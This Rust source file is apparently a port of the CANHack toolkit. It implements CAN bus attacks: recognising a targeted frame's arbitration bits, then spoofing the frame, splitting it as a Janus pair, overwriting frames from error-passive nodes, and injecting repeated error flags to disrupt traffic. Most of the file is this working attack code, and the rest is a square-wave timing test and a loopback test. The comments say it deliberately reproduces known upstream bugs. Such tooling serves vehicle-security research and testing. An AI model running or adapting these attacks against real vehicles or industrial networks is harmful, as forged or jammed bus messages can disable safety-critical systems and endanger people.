//! Attack state machines that sit on top of [`crate::engine`]: waiting for
//! a targeted frame on the bus and then spoofing, Janus-splitting, or
//! disrupting it with injected error frames.
//!
//! Grounded on `canhack_spoof_frame`, `canhack_spoof_frame_error_passive`,
//! `canhack_error_attack`, `canhack_send_square_wave` and `canhack_loopback`
//! in `canhack.c`.

use crate::engine::{self, send_bits, TransmitOutcome};
use crate::frame::Frame;
use crate::timeout::Timeout;
use canhack_core::{advance, reached, Hal, Instant};

/// The bitstream mask/match pair used to recognize a targeted frame's
/// arbitration field on the wire, plus the bit count it spans.
///
/// Derived once from a frame's arbitration field by [`AttackMasks::derive`];
/// grounded on `canhack_set_attack_masks` in `canhack.c`.
///
/// [`AttackMasks::default`] is all-zero, matching the C's zero-initialized
/// global before `canhack_set_attack_masks` is first called; a mask of `0`
/// matches every bitstream, so running a spoof attack before deriving real
/// masks fires on the very first sampled bit, exactly as upstream.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct AttackMasks {
    bitstream_mask: u64,
    bitstream_match: u64,
    n_frame_match_bits: u32,
}

impl AttackMasks {
    /// Builds the recognition mask/match pair for `frame`'s arbitration
    /// field (SOF through the last arbitration bit), preceded by 10
    /// recessive idle bits, exactly as `canhack_set_attack_masks` does.
    pub fn derive<const N: usize>(frame: &Frame<N>) -> Self {
        let n_frame_match_bits = frame.last_arbitration_bit() as u32 + 2;
        let bitstream_mask = (1u64 << (n_frame_match_bits + 10)) - 1;
        let mut bitstream_match = 0x3ffu64;
        let bits = frame.tx_bitstream();
        for &bit in bits.iter().take(n_frame_match_bits as usize) {
            bitstream_match <<= 1;
            bitstream_match |= bit.bit() as u64;
        }
        Self {
            bitstream_mask,
            bitstream_match,
            n_frame_match_bits,
        }
    }

    fn matches(&self, bitstream: u64) -> bool {
        (bitstream & self.bitstream_mask) == self.bitstream_match
    }
}

/// Waits for the targeted bitstream to appear on the bus, bit-by-bit,
/// tolerating a hard sync on every falling edge. Returns the instant the
/// matching bit's bit-end/sample-point fall at, for the caller to continue
/// driving from.
///
/// Shared by [`spoof_frame`], [`spoof_frame_error_passive`] and
/// [`error_attack`]; all three run the identical recognizer loop in the C
/// source before branching on what to do once matched.
struct MatchedBit {
    bit_end: Instant,
    sample_point: Instant,
}

fn wait_for_match<H: Hal>(
    hal: &mut H,
    masks: &AttackMasks,
    timeout: &Timeout,
) -> Option<MatchedBit> {
    hal.reset_clock(0);
    let mut prev_rx = true;
    let mut bitstream: u64 = 0;
    let mut sample_point = H::SAMPLE_POINT_OFFSET;

    loop {
        let rx = hal.get_can_rx();
        let now = hal.now();

        if prev_rx && !rx.is_recessive() {
            hal.reset_clock(0);
            sample_point = H::SAMPLE_POINT_OFFSET;
        } else if reached(now, sample_point) {
            let bit_end = advance(sample_point, H::SAMPLE_TO_BIT_END);
            sample_point = advance(sample_point, H::BIT_TIME);
            bitstream = (bitstream << 1) | rx.bit() as u64;
            if masks.matches(bitstream) {
                return Some(MatchedBit {
                    bit_end,
                    sample_point,
                });
            }
        }
        prev_rx = rx.is_recessive();
        if timeout.tick() {
            hal.set_can_tx_rec();
            return None;
        }
    }
}

/// Waits for a frame matching `masks` and then transmits `frame` (or, if
/// `janus`, `frame`+`frame2` as a Janus pair) right after winning the next
/// arbitration.
///
/// Grounded on `canhack_spoof_frame` in `canhack.c`.
#[allow(clippy::too_many_arguments)]
pub(crate) fn spoof_frame<H: Hal, const N: usize>(
    hal: &mut H,
    masks: &AttackMasks,
    janus: bool,
    frame1: &Frame<N>,
    frame2: &Frame<N>,
    sync_time: u32,
    split_time: u32,
    sync_time_fd: u32,
    split_time_fd: u32,
    retries: u32,
    timeout: &Timeout,
) -> Option<bool> {
    wait_for_match(hal, masks, timeout)?;
    if janus {
        engine::send_janus_frame(
            hal,
            frame1,
            frame2,
            sync_time,
            split_time,
            sync_time_fd,
            split_time_fd,
            retries,
            timeout,
        )
    } else {
        engine::send_frame(hal, frame1, retries, timeout)
    }
}

/// Waits for a frame matching `masks` and then overwrites it in place,
/// starting `loopback_offset` ticks early to compensate for the recognizer's
/// own latency; used against an error-passive target that can't contest
/// arbitration for a frame already in flight.
///
/// Grounded on `canhack_spoof_frame_error_passive` in `canhack.c`.
pub(crate) fn spoof_frame_error_passive<H: Hal, const N: usize>(
    hal: &mut H,
    masks: &AttackMasks,
    frame1: &Frame<N>,
    loopback_offset: u32,
    timeout: &Timeout,
) -> Option<TransmitOutcome> {
    let matched = wait_for_match(hal, masks, timeout)?;
    Some(send_bits(
        hal,
        frame1,
        matched.bit_end.wrapping_sub(loopback_offset),
        matched.sample_point.wrapping_sub(loopback_offset),
        masks.n_frame_match_bits as usize,
        timeout,
    ))
}

/// Waits for a frame matching `masks`, optionally injects a 6-bit dominant
/// error flag right after the matching bit, then watches for `eof_mask`/
/// `eof_match` to recognize the error/overload delimiter and injects a
/// further dominant run there, up to `repeat` times.
///
/// Grounded on `canhack_error_attack` in `canhack.c`, including the known
/// upstream widened-mask bug reproduced per `SPEC_FULL.md` Open Question
/// OQ-2.
pub(crate) fn error_attack<H: Hal, const N: usize>(
    hal: &mut H,
    masks: &AttackMasks,
    frame1: &Frame<N>,
    repeat: u32,
    inject_error: bool,
    eof_mask: u32,
    eof_match: u32,
    timeout: &Timeout,
) -> Option<bool> {
    let brs = frame1.brs();

    // known upstream bug: `eof_mask_brs =- 1` / `eof_match_brs =- 1` parse as
    // `= -1`, discarding the widened mask/match entirely and replacing them
    // with all-ones. Reproduced faithfully rather than "fixed"; see
    // `SPEC_FULL.md` Open Question OQ-2.
    let (eof_mask, eof_match) = if brs {
        let mut widened_mask: u64 = 1;
        let mut tmp = eof_mask;
        while tmp != 0 {
            widened_mask <<= 4;
            tmp >>= 1;
        }
        let _ = widened_mask; // computed, then discarded, exactly as upstream

        let mut widened_match: u64 = 1;
        let mut tmp = eof_match;
        while tmp != 0 {
            widened_match <<= 4;
            tmp >>= 1;
        }
        let _ = widened_match;

        // The C assigns the (buggy, all-ones) u64 locals back into the
        // u32 `eof_mask`/`eof_match` parameters, truncating to 32 bits.
        (u32::MAX, u32::MAX)
    } else {
        (eof_mask, eof_match)
    };

    hal.reset_clock(0);
    let mut prev_rx = true;
    let mut bitstream: u64 = 0;
    let mut sample_point = H::SAMPLE_POINT_OFFSET;
    // Set inside the matching branch below, on the same iteration the match
    // is recognized; never read before then.
    let mut bit_end: Instant = 0;

    loop {
        let now = hal.now();
        let rx = hal.get_can_rx();
        if prev_rx && !rx.is_recessive() {
            // Open Question OQ-4: the original resets the clock origin to a
            // nonzero recalibration offset here but still resets
            // `sample_point` to the bare constant rather than
            // `advance(now, ...)`, reproduced as-is.
            hal.reset_clock(H::FALLING_EDGE_RECALIBRATE);
            sample_point = H::SAMPLE_POINT_OFFSET;
        } else if reached(now, sample_point) {
            bitstream = (bitstream << 1) | rx.bit() as u64;
            bit_end = sample_point.wrapping_add(H::SAMPLE_TO_BIT_END);
            sample_point = advance(sample_point, H::BIT_TIME);
            if masks.matches(bitstream) {
                break;
            }
        }
        prev_rx = rx.is_recessive();
        if timeout.tick() {
            return None;
        }
    }
    // bit_end is in the future, sample_point is after bit_end.

    if inject_error {
        loop {
            let now = hal.now();
            if reached(now, bit_end) {
                hal.set_can_tx_dom();
                break;
            }
        }
        bit_end = advance(bit_end, H::BIT_TIME * 6);
        sample_point = advance(sample_point, H::BIT_TIME * 6);
        loop {
            let now = hal.now();
            if reached(now, bit_end) {
                hal.set_can_tx_rec();
                break;
            }
            if timeout.tick() {
                hal.set_can_tx_rec();
                return None;
            }
        }
    }

    let (cur_sample_point_offset, cur_bit_time, eof_mask, eof_match) = if brs {
        (H::SAMPLE_POINT_OFFSET_FD, H::BIT_TIME_FD, eof_mask, eof_match)
    } else {
        (H::SAMPLE_POINT_OFFSET, H::BIT_TIME, eof_mask, eof_match)
    };

    let mut bitstream32: u32 = 0;
    for _ in 0..repeat {
        loop {
            let now = hal.now();
            let rx = hal.get_can_rx();
            if prev_rx && !rx.is_recessive() {
                hal.reset_clock(H::FALLING_EDGE_RECALIBRATE);
                sample_point = cur_sample_point_offset;
            } else if reached(now, sample_point) {
                bitstream32 = (bitstream32 << 1) | rx.bit() as u32;
                bit_end = sample_point.wrapping_add(cur_sample_point_offset);
                sample_point = advance(sample_point, cur_bit_time);
                if (bitstream32 & eof_mask) == eof_match {
                    // The original hardcodes the nominal `BIT_TIME` for this
                    // 7-bit injection even when `cur_bit_time` has switched
                    // to the FD variant; reproduced as-is.
                    loop {
                        let now = hal.now();
                        if reached(now, bit_end) {
                            hal.set_can_tx_dom();
                            bit_end = advance(bit_end, H::BIT_TIME * 7);
                            sample_point = advance(sample_point, H::BIT_TIME * 7);
                            bitstream32 <<= 7;
                            break;
                        }
                    }
                    loop {
                        let now = hal.now();
                        if reached(now, bit_end) {
                            hal.set_can_tx_rec();
                            break;
                        }
                    }
                    break;
                }
            }
            prev_rx = rx.is_recessive();
            if timeout.tick() {
                hal.set_can_tx_rec();
                return None;
            }
        }
    }
    Some(true)
}

/// Toggles TX every bit time for 160 bit times: a plain test square wave,
/// useful for checking the bit-timing constants against an oscilloscope.
///
/// Grounded on `canhack_send_square_wave` in `canhack.c`.
pub(crate) fn send_square_wave<H: Hal>(hal: &mut H, timeout: &Timeout) {
    hal.reset_clock(0);
    let mut bit_end = H::BIT_TIME;
    let mut tx = false;

    loop {
        let now = hal.now();
        if reached(now, bit_end) {
            hal.set_can_tx(tx.into());
            bit_end = advance(now, H::BIT_TIME);
            tx = !tx;
        }
        if timeout.tick() {
            hal.set_can_tx_rec();
            return;
        }
    }
}

/// Waits for a falling edge on RX, then echoes RX to the debug pin once per
/// bit time for 160 bit times (700 for CAN FD, to cover a frame without
/// BRS), for scoping an incoming frame's bit pattern.
///
/// Grounded on `canhack_loopback` in `canhack.c`.
pub(crate) fn loopback<H: Hal>(hal: &mut H, fd: bool, timeout: &Timeout) {
    let mut rx = false;
    loop {
        let prev_rx = rx;
        rx = hal.get_can_rx().is_recessive();
        if prev_rx && !rx {
            break;
        }
        if timeout.tick() {
            hal.set_can_tx_rec();
            return;
        }
    }

    let mut i: u32 = if fd { 700 } else { 160 };
    let mut bit_end = H::BIT_TIME;
    hal.reset_clock(0);
    while i > 0 {
        hal.set_debug(hal.get_can_rx());
        let now = hal.now();
        if reached(now, bit_end) {
            bit_end = advance(now, H::BIT_TIME);
            i -= 1;
        }
        if timeout.tick() {
            hal.set_can_tx_rec();
            return;
        }
    }
    hal.set_can_tx_rec();
}
